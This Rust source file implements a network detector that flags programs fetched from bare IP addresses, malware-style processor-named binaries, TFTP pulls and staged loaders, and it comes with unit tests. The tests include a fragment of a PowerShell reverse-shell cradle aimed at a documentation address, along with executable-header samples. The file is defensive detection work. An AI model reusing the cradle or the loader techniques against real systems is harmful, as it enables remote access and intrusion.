//! # Program fetched from a bare address
//!
//! ## What it finds
//! A device that fetches a program over plain HTTP from a host that has no name.
//! ## Why it matters
//! Malware fetches its next part so; makers of devices use names and encryption.
//! ## How it decides
//! The answer to a GET begins as a program does (ELF, `MZ` with a PE header, a shell script), and the host was asked for
//! by its address, or the name of the file is one of a processor (`.arm7`, `mips`, `x86`), or the kind that was
//! announced is a picture, a page or a folder. Of scripts: those of a shell, those of PowerShell that load and run
//! more, or call somebody, and those of Windows that start programs, also in a small page and with their letters as
//! numbers. A program that is hidden is told from everywhere: one of Windows as text (base64, hexadecimal) or mixed with one
//! byte, or one of Android behind the head of one of Windows. Medium: a program for Linux of which the file has no ending, one of Windows
//! that a page gives to what is no browser, one for Java or Android from a bare address. Low: one of Windows that is asked for
//! under a browser's name as no browser asks, or by Java. Also told: a service of the Internet whose first words are a length and a program of that length
//! (so loaders in memory get their second part, whatever the port); a file asked of the Internet by TFTP, high if it is one of a
//! processor, else low.
//! ## What fools it
//! Programs in archives; anything encrypted.
//! ## What to do
//! Look what runs on that device.
//!
//! Leaves out: hosts of the home. Holds 256 conversations.

mod kinds;

use std::net::IpAddr;

use crate::{
    detectors::{
        Context, Detector, Evidence, Needs,
        usual::{Bell, Usual},
    },
    model::{Capped, Card, Category, Finding, Findings, Port, Severity, clean_text, is_private, is_unicast},
    traffic::{End, Http, Talkers, What},
    wire::{Frame, protocol},
};

use kinds::program;

pub static CARD: Card = Card {
    id: "tool_download",
    title: "Program fetched from a bare address",
    needs: Some("CAP_NET_RAW"),
    page: include_str!("tool_download.rs"),
};

pub type Settings = Usual;

/// Names that builders of malware give to what is for one processor.
const PROCESSORS: [&str; 12] =
    [".arm", ".arm5", ".arm6", ".arm7", ".mips", ".mpsl", ".mipsel", ".x86", ".ppc", ".sh4", ".m68k", ".spc"];
/// RFC 1350 §4.
const TFTP: Port = 69;
/// Endings that promise something harmless.
const HARMLESS: [&str; 4] = [".txt", ".html", ".htm", ".css"];
const PICTURES: [&str; 6] = [".png", ".jpg", ".jpeg", ".gif", ".ico", ".bmp"];
/// Programs that make pages; some makers give out their own programs so, to browsers.
const PAGES: [&str; 5] = [".php", ".asp", ".aspx", ".jsp", ".cgi"];

/// A length that a program of Windows may have, and one that loads others is not smaller.
const STAGE: std::ops::Range<u32> = 10_000..(64 << 20);
const AWAITED_MAX: usize = 256;

/// See the page above.
pub struct ToolDownload {
    bell: Bell,
    /// Services that have said four bytes, which may be a length.
    awaited: Capped<(End, End), ()>,
}

/// A program of a `kind` that came over this conversation.
fn fetched(talk: &Talkers, kind: &str, context: &Context<'_>) -> Finding {
    let (client, server) = (talk.client, talk.server);
    let key = format!("{} {}", client.ip, server.ip);
    Finding::new(CARD.id, Category::Malware, Severity::High, key, context.now)
        .by(client.party())
        .against(server.party())
        .why("kind", kind)
        .technique(&["T1105"])
}

impl ToolDownload {
    #[must_use]
    pub fn new(settings: Settings) -> ToolDownload {
        ToolDownload { bell: Bell::new(settings), awaited: Capped::new(AWAITED_MAX) }
    }
}

/// The file that a read request of TFTP asks for (RFC 1350 §5).
fn requested(payload: &[u8]) -> Option<&[u8]> {
    let rest = payload.strip_prefix(&[0, 1])?;
    let mut words = rest.split(|byte| *byte == 0);
    let (file, mode) = (words.next()?, words.next()?);
    let known: [&[u8]; 2] = [b"octet", b"netascii"];
    known.iter().any(|known| mode.eq_ignore_ascii_case(known)).then_some(file)
}

impl ToolDownload {
    /// A service that says a length and a program, and nothing before.
    fn staged(&mut self, talk: &Talkers, from: u32, bytes: &[u8], context: &Context<'_>, findings: &mut Findings) {
        let (client, server) = (talk.client, talk.server);
        if talk.protocol != protocol::TCP || is_private(server.ip) || server.mac.is_some() && client.mac.is_none() {
            return;
        }
        let body = match bytes {
            [a, b, c, d, body @ ..] if from == 0 && STAGE.contains(&u32::from_le_bytes([*a, *b, *c, *d])) => body,
            _ if from == 4 && self.awaited.contains(&(client, server)) => bytes,
            _ => return,
        };
        if from == 0 && body.is_empty() {
            self.awaited.insert((client, server), ());
        }
        if program(body, false) != Some("PE") {
            return;
        }
        let finding = fetched(talk, "PE", context)
            .why("destination", server.ip)
            .why("path", format!("port {}", server.port))
            .points(6.5);
        self.bell.ring(finding, findings);
    }

    /// A file asked of the Internet by TFTP, which nothing but loaders of small systems speaks. Telephones of some
    /// providers fetch their settings so: only a program for one processor is told as high.
    fn asked(&mut self, frame: &Frame<'_>, context: &Context<'_>, findings: &mut Findings) {
        let (Some(udp), Some((from, to))) = (frame.udp(), frame.addresses()) else { return };
        if udp.destination != TFTP || is_private(to) || !is_unicast(to) {
            return;
        }
        let Some(file) = requested(udp.payload) else { return };
        let file = String::from_utf8_lossy(file).to_ascii_lowercase();
        let processor = PROCESSORS.iter().any(|end| file.ends_with(end));
        let severity = if processor { Severity::High } else { Severity::Low };
        let finding = Finding::new(CARD.id, Category::Malware, severity, format!("{from} {to} tftp"), context.now)
            .by(context.neighbours.party(from, frame.source))
            .against(context.neighbours.party(to, frame.destination))
            .why("kind", "TFTP")
            .why("destination", to)
            .why("path", clean_text(&file, 64))
            .technique(&["T1105"])
            .points(5.5);
        self.bell.ring(finding, findings);
    }
}

impl Detector for ToolDownload {
    fn card(&self) -> &'static Card {
        &CARD
    }

    fn needs(&self) -> &'static [Needs] {
        &[Needs::Http, Needs::Udp, Needs::Said]
    }

    fn held(&self) -> usize {
        self.bell.held() + self.awaited.len()
    }

    fn examine(&mut self, evidence: Evidence<'_>, context: &Context<'_>, findings: &mut Findings) {
        let noticed = match evidence {
            Evidence::Packet(frame) => return self.asked(frame, context, findings),
            Evidence::Traffic(noticed) => noticed,
            _ => return,
        };
        if let What::Said { by_client: false, from, bytes } = &noticed.what {
            return self.staged(&noticed.talk, *from, bytes, context, findings);
        }
        let What::HttpAnswer(http) = &noticed.what else { return };
        let (client, server) = (noticed.talk.client, noticed.talk.server);
        if http.status != 200 || is_private(server.ip) || server.mac.is_some() && client.mac.is_none() {
            return;
        }
        let host = http.host.rsplit_once(':').map_or(http.host.as_str(), |(host, _)| host);
        let path = http.path.split('?').next().unwrap_or_default().to_ascii_lowercase();
        let bare = host.trim_matches(['[', ']']).parse::<IpAddr>().is_ok();
        let Some((kind, severity)) = told(http, &path, bare) else { return };
        let finding = Finding { severity, ..fetched(&noticed.talk, kind, context) }
            .why("destination", clean_text(host, 64))
            .why("path", clean_text(&path, 64))
            .points(if bare { 6.5 } else { 5.5 });
        self.bell.ring(finding, findings);
    }
}

/// What was fetched, and how much it says that it came so.
fn told(http: &Http, path: &str, bare: bool) -> Option<(&'static str, Severity)> {
    let processor = PROCESSORS.iter().any(|end| path.ends_with(end));
    let picture = PICTURES.iter().any(|end| path.ends_with(end)) || http.kind.starts_with("image/");
    let harmless = path.ends_with('/') || picture || HARMLESS.iter().any(|end| path.ends_with(end));
    // A page, asked for by what is no browser.
    let unasked = !http.has_accept && !http.is_referred;
    let page = unasked && (PAGES.iter().any(|end| path.ends_with(end)) || http.kind.starts_with("text/html"));
    let file = path.rsplit('/').next().unwrap_or_default();
    let nameless = !file.is_empty() && !file.contains('.');
    // What is hidden in something else is looked for at the first bytes alone; the rest only where more speaks for it.
    if let Some(kind) = kinds::hidden(&http.body) {
        return Some((kind, Severity::High));
    }
    // Browsers say which kinds they take; what only has their name asks as it likes. Java loads programs of Windows for
    // nobody but who breaks out of it.
    let feigned = unasked && http.agent.starts_with("Mozilla/") || http.agent.contains("Java/1.");
    if !bare && !processor && !harmless && !page && !nameless && !feigned {
        return None;
    }
    let kind = program(&http.body, bare)?;
    match kind {
        "script" if !bare && !processor && !picture => None,
        // A file of a telephone or of Java; people load such from makers, which have names.
        "APK" | "JAR" => bare.then_some((kind, Severity::Medium)),
        _ if bare || processor || harmless => Some((kind, Severity::High)),
        "ELF" => Some((kind, Severity::Medium)),
        _ if page => Some((kind, Severity::Medium)),
        _ => feigned.then_some((kind, Severity::Low)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::stage::{Stage, between, datagram, ip, mac, segment};

    fn fetch(host: &str, path: &str, body: &[u8]) -> usize {
        fetch_as("", host, path, body)
    }

    fn fetch_as(more: &str, host: &str, path: &str, body: &[u8]) -> usize {
        let mut stage = Stage::new(ToolDownload::new(Settings::default()));
        let (me, other) = ((mac(9), ip(9)), (mac(1), [203, 0, 113, 9]));
        let ask = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n");
        let mut answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
        answer.extend(body);
        let count = stage.frame(&between(me, other, 6, &segment(40_000, 80, 16, 1, ask.as_bytes())), 0).len();
        count + stage.frame(&between(other, me, 6, &segment(80, 40_000, 16, 1, &answer)), 9).len()
    }

    #[test]
    fn a_second_part_that_comes_with_its_length_is_told() {
        let run = |parts: &[&[u8]]| -> usize {
            let mut stage = Stage::new(ToolDownload::new(Settings::default()));
            let (me, far) = ((mac(9), ip(9)), (mac(1), [203, 0, 113, 9]));
            stage.frame(&between(me, far, 6, &segment(40_000, 4321, 2, 1, b"")), 0);
            stage.frame(&between(far, me, 6, &segment(4321, 40_000, 18, 1, b"")), 1);
            stage.frame(&between(me, far, 6, &segment(40_000, 4321, 16, 2, b"")), 2);
            let mut at = 2;
            let tell = parts.iter().map(|part| {
                let frame = between(far, me, 6, &segment(4321, 40_000, 24, at, part));
                at += part.len() as u32;
                stage.frame(&frame, 3).len()
            });
            tell.sum()
        };
        let program = b"MZ\xe8\0\0\0\0\x5bThis program cannot be run in DOS mode.\r\r\n$";
        assert_eq!(run(&[&[0, 0xb0, 2, 0], program]), 1);
        assert_eq!(run(&[&[&[0, 0xb0, 2, 0][..], program].concat()]), 1);
        assert_eq!(run(&[program]), 0, "a file, as of FTP");
        assert_eq!(run(&[&[9, 0, 0, 0], program]), 0, "no length of a program");
    }

    #[test]
    fn a_loader_of_a_small_system_is_told() {
        let run = |file: &str, to: [u8; 4]| -> Vec<Severity> {
            let mut stage = Stage::new(ToolDownload::new(Settings::default()));
            let ask = [&[0, 1][..], file.as_bytes(), b"\0octet\0"].concat();
            let frame = between((mac(9), ip(9)), (mac(1), to), 17, &datagram(40_000, 69, &ask));
            stage.frame(&frame, 0).iter().map(|finding| finding.severity).collect()
        };
        let far = [203, 0, 113, 9];
        assert_eq!(run("bins/a.mips", far), [Severity::High]);
        assert_eq!(run("0004f2aabbcc.cfg", far), [Severity::Low]);
        assert!(run("pxelinux.0", ip(5)).is_empty(), "a computer that starts from the network");
    }

    #[test]
    fn programs_of_nameless_hosts_are_told() {
        assert_eq!(fetch("203.0.113.9", "/bins/a.arm7", b"\x7fELF\x01"), 1);
        assert_eq!(fetch("example.com", "/logo.png", b"MZ\x90\0This program cannot be run in DOS mode"), 1);
        assert_eq!(fetch("example.com", "/setup.exe", b"MZ\x90\0This program cannot be run in DOS mode"), 0);
        assert_eq!(fetch("203.0.113.9", "/logo.png", b"\x89PNG"), 0);
        let windows = b"MZ\x90\0This program cannot be run in DOS mode";
        assert_eq!(fetch("example.com", "/bfg.php?dll=set", windows), 1, "a page that no browser asks for");
        let agent = "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)\r\n";
        assert_eq!(fetch_as(agent, "example.com", "/sys.dll", windows), 1, "no browser asks so");
        assert_eq!(fetch_as(&format!("{agent}Accept: */*\r\n"), "example.com", "/sys.dll", windows), 0);
        assert_eq!(fetch_as("User-Agent: Updater/1.0\r\n", "example.com", "/setup.exe", windows), 0, "as it is called");
        assert_eq!(fetch("example.com", "/crond32", b"\x7fELF\x01"), 1);
        assert_eq!(fetch("example.com", "/boot/vmlinuz", windows), 0, "what starts by itself");
        assert_eq!(fetch("example.com", "/tool.bin", b"\x7fELF\x01"), 0);
        assert_eq!(fetch("example.com", "/a.dat", b"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA"), 1, "as text");
        assert_eq!(fetch("203.0.113.9", "/a.jar", b"PK\x03\x04\x14\0\x08\0META-INF/MANIFEST.MF"), 1);
        assert_eq!(fetch("example.com", "/a.jar", b"PK\x03\x04\x14\0\x08\0META-INF/MANIFEST.MF"), 0);
        let cradle = b"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream()";
        assert_eq!(fetch("203.0.113.9", "/a.ps1", cradle), 1);
        assert_eq!(fetch("example.com", "/install.ps1", cradle), 0, "of a host with a name");
        assert_eq!(
            fetch("203.0.113.9", "/help", b"<html>Use Invoke-Expression with care</html>"),
            0,
            "a page about it"
        );
    }
}
